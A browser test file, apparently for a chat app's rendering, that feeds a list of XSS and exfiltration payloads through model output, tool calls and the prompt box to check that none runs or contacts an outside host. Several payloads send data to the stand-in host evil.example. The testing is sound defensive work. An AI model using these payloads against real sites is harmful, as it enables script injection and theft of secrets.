import { describe, expect, test } from 'vitest';
import { browserForTests, hasChromium } from './browser.ts';
import { browserStage } from './stage.ts';

/** What a model may write, or a web page that it quotes, to make a page run or send something. */
const ATTACKS = [
  '<img src=x onerror="globalThis.pwned=1">',
  '<script>globalThis.pwned=1</script>',
  '<svg onload="globalThis.pwned=1"><animate onbegin="globalThis.pwned=1" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:globalThis.pwned=1" id="a1">press</a>',
  '[press](javascript:globalThis.pwned=1)',
  '[press](JaVaScRiPt:globalThis.pwned=1)',
  '[press](data:text/html,<script>globalThis.pwned=1</script>)',
  '[press](vbscript:globalThis.pwned=1)',
  '[press]( java\tscript:globalThis.pwned=1)',
  '![pixel](https://evil.example/?stolen=secret)',
  '![pixel](//evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload="globalThis.pwned=1"/>)',
  '![x](x" onerror="globalThis.pwned=1)',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name="token"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.pwned=1&gt;">',
  '```html" onmouseover="globalThis.pwned=1\n<b>code</b>\n```',
  '`<img src=x onerror=globalThis.pwned=1>`',
  '<details open ontoggle="globalThis.pwned=1"><summary>x</summary></details>',
  '<div id="prompt" name="app">clobbered</div>',
  '| <img src=x onerror=globalThis.pwned=1> |\n| --- |\n| <script>globalThis.pwned=1</script> |',
  '[a]: javascript:globalThis.pwned=1\n\n[press][a]',
];

describe.skipIf(!hasChromium())('what a model writes', () => {
  const open = browserForTests();

  test('S8 is never run, loaded or sent, wherever it stands', async () => {
    const evil = ATTACKS.join('\n\n');
    const name = '<img src=x onerror=globalThis.pwned=1>';
    await using stage = await browserStage([
      {
        thinking: evil,
        chunks: [
          { type: 'thinking', content: evil },
          { type: 'tool_call_delta', id: name, name, argumentsDelta: JSON.stringify({ expression: evil }) },
          { type: 'tool_call', id: name, name: 'calculate', arguments: { expression: evil } },
        ],
        finishReason: 'tool_calls',
      },
      evil,
      evil,
    ]);
    await using opened = await open(stage.url);
    const { page, problems } = opened;
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(stage.url) && !request.url().startsWith('data:'))
        foreign.push(request.url());
    });
    await page.getByLabel('Prompt').fill(evil);
    await page.keyboard.press('Enter');
    await page.locator('.message .markdown').waitFor();
    await page.locator('#state[data-state=ready]').waitFor();
    for (const summary of await page.locator('summary').all()) await summary.click();
    expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(new URL(page.url()).origin).toBe(stage.url);
    const links = await page
      .locator('.message a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
    for (const link of links) expect(link).toMatch(/^(?:https?:|mailto:)|^$/);
    expect(
      await page
        .locator('.message :is(script, iframe, style, form, svg:not(.glyph), math, meta, base, link)')
        .count(),
    ).toBe(0);
    // The icons are the page's own.
    for (const shape of await page.locator('.message svg.glyph > *').all())
      expect(await shape.evaluate(({ tagName, attributes }) => [tagName, attributes.length])).toEqual([
        'path',
        expect.any(Number),
      ]);
    expect(await page.locator('#prompt').count()).toBe(1);
    // The policy of the page has refused nothing, because nothing was tried.
    expect(problems).toEqual([]);
  });

  test('cannot break the policy of the page, even if it got into the document', async () => {
    await using stage = await browserStage(['Hi']);
    await using opened = await open(stage.url);
    const { page } = opened;
    const refused = await page.evaluate(async () => {
      const found: string[] = [];
      const connecting = new Promise<void>((resolve) => {
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          found.push(effectiveDirective);
          if (effectiveDirective === 'connect-src') resolve();
        });
      });
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.pwned=1">');
      } catch {
        found.push('refused markup');
      }
      const script = document.createElement('script');
      try {
        script.textContent = 'globalThis.pwned = 1';
        document.body.append(script);
      } catch {
        found.push('refused script');
      }
      await fetch('https://evil.example/').catch(() => found.push('refused request'));
      await connecting;
      return { found, pwned: Reflect.get(globalThis, 'pwned') };
    });
    expect(refused.pwned).toBeUndefined();
    expect(refused.found).toEqual(
      expect.arrayContaining(['refused markup', 'refused script', 'refused request', 'connect-src']),
    );
  });
});
